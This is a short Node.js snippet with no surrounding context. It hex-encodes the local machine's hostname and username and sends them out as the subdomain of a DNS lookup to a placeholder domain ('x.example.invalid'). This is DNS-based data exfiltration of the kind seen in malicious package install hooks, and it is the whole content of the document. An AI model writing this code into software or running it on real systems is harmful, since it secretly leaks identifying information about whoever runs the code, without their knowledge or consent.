const dns = require('dns');
const os = require('os');
const data = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');
dns.lookup(data + '.x.example.invalid', () => {});
